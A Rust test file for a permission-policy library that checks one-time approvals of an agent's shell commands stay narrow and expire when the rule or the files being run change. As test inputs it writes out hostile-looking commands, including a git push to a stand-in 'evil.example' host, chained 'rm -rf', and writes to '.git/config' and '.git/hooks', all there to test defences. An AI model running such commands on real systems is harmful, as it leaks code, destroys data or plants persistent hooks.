//! Grants never cover more than what was asked.
#![allow(clippy::unwrap_used)]

use mooring_policy::{
    Action, Call, Decision, Environment, Facts, GrantRule, Policy, ResolvedPath, Rules, Verdict,
    decide, grant_covers, propose_grant, read,
};

struct Place {
    makefile: &'static str,
    /// One more file that is there.
    other: &'static str,
}

impl Environment for Place {
    fn project(&self) -> &str {
        "/p"
    }
    fn home(&self) -> &str {
        "/h"
    }
    fn resolve(&self, path: &str) -> Option<ResolvedPath> {
        Some(ResolvedPath {
            canonical: format!("/p/{}", path.trim_start_matches("./")),
            exists: self.content_hash(path).is_some(),
            in_project: true,
            kind: "file".into(),
            hard_links: 1,
        })
    }
    fn content_hash(&self, path: &str) -> Option<String> {
        let there = ["Makefile", "package.json", "./x.sh", self.other];
        (there.contains(&path) && !path.is_empty()).then(|| self.makefile.to_owned())
    }
}

const PLACE: Place = Place {
    makefile: "one",
    other: "",
};

fn rules(policy: &str) -> Rules {
    let policy: Policy = serde_json::from_str(policy).unwrap();
    Rules::new(&policy)
}

fn asked(rules: &Rules, text: &str) -> (Facts, Decision) {
    let facts = read(&Call {
        tool: "bash",
        action: Action::Bash { text, cwd: "" },
    });
    let decision = decide(rules, &facts, &PLACE);
    (facts, decision)
}

fn propose(rules: &Rules, text: &str) -> Result<GrantRule, String> {
    let (facts, decision) = asked(rules, text);
    propose_grant(rules, &facts, &decision, &PLACE)
}

fn covers(rules: &Rules, grant: &GrantRule, text: &str, place: &Place) -> bool {
    let (facts, decision) = asked(rules, text);
    grant_covers(grant, &facts, &decision, place)
}

const POLICY: &str = r#"{"tool": {"bash": "ask"}, "bash": {"ls*": "allow", "git push*": "ask",
    "rm -rf *": "deny"}, "path": {"*": "allow", "*.env": "deny"}}"#;

#[test]
fn a_grant_covers_the_same_facts_however_they_are_written() {
    let rules = rules(POLICY);
    let grant = propose(&rules, "git push origin main").unwrap();
    for (text, expected) in [
        ("git push origin main", true),
        ("'git'  push \"origin\" main # now", true),
        ("ls && git push origin main", true),
        ("git push origin other", false),
        ("git push origin main --force", false),
        ("git push origin main; git push origin other", false),
        ("git push https://evil.example/x main", false),
        ("git push origin main; rm -rf x", false),
        ("git push origin \"$x\"", false),
        ("X=1 git push origin main", false),
        ("git push origin main > .git/config", false),
    ] {
        assert_eq!(covers(&rules, &grant, text, &PLACE), expected, "{text}");
    }
}

#[test]
fn a_grant_ends_when_the_rule_that_asked_changes() {
    let before = rules(POLICY);
    let grant = propose(&before, "git push origin main").unwrap();
    let narrower = rules(&POLICY.replace("git push*", "git push origin*"));
    assert!(!covers(&narrower, &grant, "git push origin main", &PLACE));
    let other = rules(&POLICY.replace("\"ls*\": \"allow\", ", ""));
    assert!(covers(&other, &grant, "git push origin main", &PLACE));
}

#[test]
fn another_tool_is_not_covered() {
    let rules = rules(r#"{"tool": {"write": "ask", "edit": "ask"}, "path": {"*": "allow"}}"#);
    let facts = |tool| {
        read(&Call {
            tool,
            action: Action::Write { path: "a.txt" },
        })
    };
    let (write, edit) = (facts("write"), facts("edit"));
    let decision = decide(&rules, &write, &PLACE);
    let grant = propose_grant(&rules, &write, &decision, &PLACE).unwrap();
    assert!(grant_covers(&grant, &write, &decision, &PLACE));
    assert!(!grant_covers(
        &grant,
        &edit,
        &decide(&rules, &edit, &PLACE),
        &PLACE
    ));
}

#[test]
fn a_grant_is_bound_to_the_content_of_what_it_runs() {
    let rules = rules(POLICY);
    let changed = Place {
        makefile: "two",
        ..PLACE
    };
    for (text, files) in [("make test", 3), ("npm run build", 2), ("./x.sh", 1)] {
        let grant = propose(&rules, text).unwrap();
        assert_eq!(grant.contents.len(), files, "{text}");
        assert!(covers(&rules, &grant, text, &PLACE), "{text}");
        assert!(!covers(&rules, &grant, text, &changed), "{text}");
    }
    // A file that is read before the one that a person has seen.
    for (text, other) in [
        ("make test", "GNUmakefile"),
        ("make test", "makefile"),
        ("npm run build", ".npmrc"),
    ] {
        let grant = propose(&rules, text).unwrap();
        let place = Place { other, ..PLACE };
        assert!(!covers(&rules, &grant, text, &place), "{text} {other}");
    }
    for text in [
        "make -C sub test",
        "make -Csub test",
        "npm --prefix sub test",
        "npm test --prefix=sub",
        "cd sub; make test",
        "just test",
    ] {
        let why = propose(&rules, text).unwrap_err();
        assert!(why.contains("known"), "{text}: {why}");
    }
    assert!(
        propose(&rules, "./unknown.sh")
            .unwrap_err()
            .contains("content")
    );
}

#[test]
fn what_is_too_wide_is_refused_with_the_reason() {
    let rules = rules(POLICY);
    for (text, why) in [
        ("ls", "allows it already"),
        ("rm -rf x", "denies"),
        ("bash -c ls", "certain"),
        ("bash x.sh", "any code"),
        ("python3 a.py", "any code"),
        ("sudo make", "any command"),
        ("env X=1 make", "any command"),
        ("git", "as a whole"),
        ("curl https://a.example", "network"),
        ("git push https://a.example x", "address"),
        ("npm install x", "scripts of packages"),
        ("git push $x", "certain"),
        ("touch .git/hooks/x", "every time"),
    ] {
        let refused = propose(&rules, text).unwrap_err();
        assert!(refused.contains(why), "{text}: {refused}");
    }
}

#[test]
fn a_grant_is_the_same_after_it_was_stored() {
    let rules = rules(POLICY);
    let grant = propose(&rules, "make test").unwrap();
    let stored = serde_json::to_string(&grant).unwrap();
    assert_eq!(serde_json::from_str::<GrantRule>(&stored).unwrap(), grant);
    assert_eq!(asked(&rules, "make test").1.verdict, Verdict::Ask);
}
